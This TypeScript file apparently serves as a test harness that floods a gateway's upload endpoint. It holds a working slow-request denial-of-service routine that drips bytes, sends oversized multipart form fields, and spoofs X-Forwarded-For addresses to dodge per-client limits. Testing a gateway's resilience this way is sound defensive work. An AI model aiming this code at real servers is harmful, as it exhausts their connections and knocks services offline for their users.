import { once } from 'node:events'
import { connect, type Socket } from 'node:net'

/** Connections that keep an upload form open without a policy. */
export interface Attack {
  /** Number of connections that are open now. */
  open(): number
  /** Number of connections that were opened since the start, including reconnections. */
  opened(): number
  /** Number of responses by status code. */
  statusCounts(): Record<string, number>
  stop(): void
}

const BYTE_INTERVAL_MS = 25_000
const FIELD_BYTES = 126 * 1024
const FIELDS = 57

/**
 * Opens `connections` connections with `POST /v2/upload/object` to a gateway, from `addresses`
 * client addresses. Half of them send one byte every 25 s. The other half send 7 MiB of form fields
 * and then nothing. With `reconnectMs`, a closed connection is opened again after that time.
 */
export function startAttack(
  gateway: string,
  { connections, addresses, reconnectMs }: { connections: number; addresses: number; reconnectMs?: number | undefined },
): Attack {
  const [host = '', port = ''] = gateway.replace('http://', '').split(':')
  const sockets = new Set<Socket>()
  const answers: Record<string, number> = {}
  let [opened, isStopped] = [0, false]
  const timers = new Set<NodeJS.Timeout>()

  const openConnection = (nth: number) => {
    if (isStopped) return
    opened += 1
    const socket = connect(Number(port), host)
    sockets.add(socket)
    let byteTimer: NodeJS.Timeout | undefined
    socket
      .on('error', () => {})
      .on('data', (data) => {
        const status = /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1]
        if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1
      })
    socket.once('close', () => {
      clearInterval(byteTimer)
      sockets.delete(socket)
      if (reconnectMs === undefined) return
      const timer = setTimeout(() => {
        timers.delete(timer)
        openConnection(nth)
      }, reconnectMs)
      timers.add(timer)
    })
    socket.write(formHeaders(nth, addresses))
    if (nth % 2 === 0) {
      socket.write('-')
      byteTimer = setInterval(() => socket.write('-'), BYTE_INTERVAL_MS)
    } else void sendFields(socket)
  }
  for (let nth = 0; nth < connections; nth++) openConnection(nth)

  return {
    open: () => sockets.size,
    opened: () => opened,
    statusCounts: () => answers,
    stop() {
      isStopped = true
      for (const timer of timers) clearTimeout(timer)
      for (const socket of sockets) socket.destroy()
    },
  }
}

function formHeaders(nth: number, addresses: number): string {
  const address = nth % addresses
  return [
    'POST /v2/upload/object HTTP/1.1',
    'Host: h',
    `X-Forwarded-For: 198.51.${Math.floor(address / 250)}.${(address % 250) + 1}`,
    'Content-Type: multipart/form-data; boundary=b',
    'Content-Length: 1000000000',
    '',
    '',
  ].join('\r\n')
}

async function sendFields(socket: Socket): Promise<void> {
  const value = 'x'.repeat(FIELD_BYTES)
  const closed = new AbortController()
  socket.once('close', () => closed.abort())
  for (let nth = 0; nth < FIELDS && socket.writable; nth++) {
    const canWrite = socket.write(`--b\r\nContent-Disposition: form-data; name="x-ignore-${nth}"\r\n\r\n${value}\r\n`)
    if (!canWrite) await once(socket, 'drain', { signal: closed.signal }).catch(() => {})
  }
}
